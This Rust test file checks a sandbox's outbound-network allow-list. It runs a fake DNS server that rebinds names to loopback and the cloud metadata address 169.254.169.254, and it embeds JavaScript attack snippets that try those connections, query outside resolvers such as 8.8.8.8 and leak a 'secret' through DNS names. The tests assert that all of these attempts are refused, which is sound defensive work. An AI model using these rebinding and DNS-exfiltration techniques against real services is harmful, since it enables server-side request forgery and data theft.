//! Names whose owner changes where they lead between two questions. The attacker asks its own
//! resolver, which is opened to it, and so is the first address that it gives; the next one is not.

use std::collections::HashMap;
use std::io::{Read as _, Write as _};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, TcpListener, UdpSocket};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use crate::support::Field;

/// Types of records.
const A: u16 = 1;
const CNAME: u16 = 5;
const AAAA: u16 = 28;

/// Where names lead at first: an address of this machine that is opened.
const OPEN: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 2);
/// Each name, and where it leads from the second question on; a name in between for those that have
/// one.
const NAMES: [(&str, IpAddr, bool); 6] = [
    ("loopback.test", IpAddr::V4(Ipv4Addr::LOCALHOST), false),
    ("metadata.test", IpAddr::V4(Ipv4Addr::new(169, 254, 169, 254)), false),
    ("six.test", IpAddr::V6(Ipv6Addr::LOCALHOST), false),
    ("mapped.test", IpAddr::V6(Ipv6Addr::new(0, 0, 0, 0, 0, 0xffff, 0x7f00, 1)), false),
    ("alias.test", IpAddr::V4(Ipv4Addr::LOCALHOST), true),
    ("alias-metadata.test", IpAddr::V4(Ipv4Addr::new(169, 254, 169, 254)), true),
];

/// The name in a question's wire form, its type, and where the question ends.
fn question(bytes: &[u8]) -> (String, u16, usize) {
    let (mut at, mut parts) = (12, Vec::new());
    while bytes[at] != 0 {
        let end = at + 1 + usize::from(bytes[at]);
        parts.push(String::from_utf8_lossy(&bytes[at + 1..end]).into_owned());
        at = end;
    }
    (parts.join("."), u16::from_be_bytes([bytes[at + 1], bytes[at + 2]]), at + 5)
}

/// A record of the name that was asked for, or of the one that the record before it leads to.
fn record(owner: &[u8], kind: u16, data: &[u8]) -> Vec<u8> {
    let length = u16::try_from(data.len()).expect("fits").to_be_bytes();
    [owner, &kind.to_be_bytes(), &[0, 1, 0, 0, 0, 0], &length, data].concat()
}

/// Answers questions at a port of its own, which it gives.
fn resolver() -> u16 {
    let socket = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).expect("a port");
    let port = socket.local_addr().expect("an address").port();
    std::thread::spawn(move || {
        let (mut bytes, mut asked) = ([0; 512], HashMap::<(String, u16), u32>::new());
        while let Ok((n, from)) = socket.recv_from(&mut bytes) {
            let (name, kind, end) = question(&bytes[..n]);
            let times = asked.entry((name.clone(), kind)).or_default();
            *times += 1;
            let found = NAMES.iter().find(|(known, ..)| *known == name);
            let (to, has_alias) = match found {
                Some((_, to, has_alias)) if *times > 1 => (*to, *has_alias),
                // Its first answer is of the type that its later ones have.
                Some((_, IpAddr::V6(_), _)) => (OPEN.to_ipv6_mapped().into(), false),
                _ => (OPEN.into(), false),
            };
            let (of, data) = match to {
                IpAddr::V4(ip) => (A, ip.octets().to_vec()),
                IpAddr::V6(ip) => (AAAA, ip.octets().to_vec()),
            };
            // `0xc00c`: the name of the question.
            let (inner, mut records) = (b"\x05inner\x04test\x00", Vec::new());
            if of == kind && has_alias {
                records.extend([record(&[0xc0, 0x0c], CNAME, inner), record(inner, of, &data)]);
            } else if of == kind {
                records.push(record(&[0xc0, 0x0c], of, &data));
            }
            let head = [
                bytes[0],
                bytes[1],
                0x81,
                0x80,
                0,
                1,
                0,
                u8::try_from(records.len()).expect("few"),
                0,
                0,
                0,
                0,
            ];
            let _ = socket.send_to(&[&head[..], &bytes[12..end], &records.concat()].concat(), from);
        }
    });
    port
}

/// A port that is free at all addresses: what is free at the first may be taken at another.
fn listen(at: &[IpAddr]) -> (u16, Vec<TcpListener>) {
    for _ in 0..100 {
        let first = TcpListener::bind((at[0], 0)).expect("a port");
        let port = first.local_addr().expect("an address").port();
        let others: std::io::Result<Vec<_>> =
            at[1..].iter().map(|ip| TcpListener::bind(SocketAddr::new(*ip, port))).collect();
        if let Ok(others) = others {
            return (port, [first].into_iter().chain(others).collect());
        }
    }
    panic!("no port is free at all of {at:?}")
}

/// A web server at these addresses, one port for all, which is given, and the number of connections
/// to each.
fn serve(at: &[IpAddr]) -> (u16, Vec<Arc<AtomicUsize>>) {
    let (port, listeners) = listen(at);
    let counts = listeners.into_iter().map(|listener| {
        let count = Arc::new(AtomicUsize::new(0));
        let counted = count.clone();
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                counted.fetch_add(1, Ordering::SeqCst);
                let _ = stream.read(&mut [0; 4096]).and_then(|_| {
                    stream.write_all(
                        b"HTTP/1.1 200 OK\r\ncontent-length: 4\r\nconnection: close\r\n\r\nopen",
                    )
                });
            }
        });
        count
    });
    let counts = counts.collect();
    (port, counts)
}

#[tokio::test]
async fn a_name_that_leads_elsewhere_at_the_second_question_leads_nowhere() {
    let (dns, (port, hits)) = (resolver(), serve(&[OPEN.into(), Ipv4Addr::LOCALHOST.into()]));
    let field =
        Field::start_with(&["--egress-allow", &format!("127.0.0.1:{dns},{OPEN}:{port}")]).await;
    for (name, to, _) in NAMES {
        let family = if to.is_ipv6() { 6 } else { 4 };
        // Once by a connection whose name is looked up as it is made, and once with the answer in
        // hand.
        let attack = format!(
            "const http = await import('node:http'); const net = await import('node:net'); const dns = await import('node:dns');
             const resolver = new dns.promises.Resolver({{ timeout: 2000, tries: 2 }}); resolver.setServers(['127.0.0.1:{dns}']);
             const ask = async () => (await resolver.resolve{family}('{name}'))[0];
             const lookup = (name, options, done) => ask().then((address) => done(null, options.all ? [{{ address, family: {family} }}] : address, {family}), done);
             const get = () => new Promise((y) => http.get({{ host: '{name}', port: {port}, lookup, agent: false }}, (r) => r.on('data', (d) => y(d.toString()))).on('error', (e) => y((e.errors?.[0] ?? e).code)));
             const connect = async () => {{ const host = await ask(); return await new Promise((y) => net.connect({{ port: {port}, host }}).on('connect', () => y('in')).on('error', (e) => y(e.code))); }};
             return [await get(), await get(), await connect()].join();"
        );
        let said = field.send(&field.deploy(&attack).await).await.text;
        assert_eq!(said, "open: open,EACCES,EACCES", "{name}");
        field.healthy().await;
    }
    assert_eq!(hits[0].load(Ordering::SeqCst), NAMES.len(), "the first address is open");
    assert_eq!(hits[1].load(Ordering::SeqCst), 0, "a closed address was reached");
}

/// Names are asked of the machine's resolvers, and of what the operator opens: data could leave by
/// questions, and a foreign answer is no better.
#[tokio::test]
async fn other_resolvers_are_not_asked() {
    let field = Field::start_with(&["--egress-allow", "127.0.0.1:1"]).await;
    // It listens, and nothing comes.
    let socket = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).expect("a port");
    let port = socket.local_addr().expect("an address").port();
    let tools = "const dns = await import('node:dns'); const net = await import('node:net'); const dgram = await import('node:dgram');
        const ask = async (at) => { const r = new dns.promises.Resolver({ timeout: 300, tries: 1 }); r.setServers([at]); return await r.resolve4('secret-in-a-name.test'); };
        const send = (port, host) => new Promise((y, n) => { const s = dgram.createSocket('udp4'); s.on('error', n).send('x', port, host, (e) => e ? n(e) : y('sent')); });";
    for (attack, code) in [
        (format!("return ask('127.0.0.1:{port}');"), "ECONNREFUSED"),
        ("return ask('8.8.8.8');".into(), "ECONNREFUSED"),
        ("return ask('[2001:4860:4860::8888]');".into(), "ECONNREFUSED"),
        ("return send(53, '8.8.8.8');".into(), "EACCES"),
        ("return send(53, '127.0.0.99');".into(), "EACCES"),
        ("return new Promise((y, n) => net.connect(53, '8.8.8.8').on('error', n).on('connect', () => y('in')));".into(), "EACCES"),
    ] {
        field.refused(&format!("{tools} {attack}"), &[code]).await;
    }
    socket.set_nonblocking(true).expect("sets");
    assert!(socket.recv(&mut [0; 512]).is_err(), "a question arrived");
}
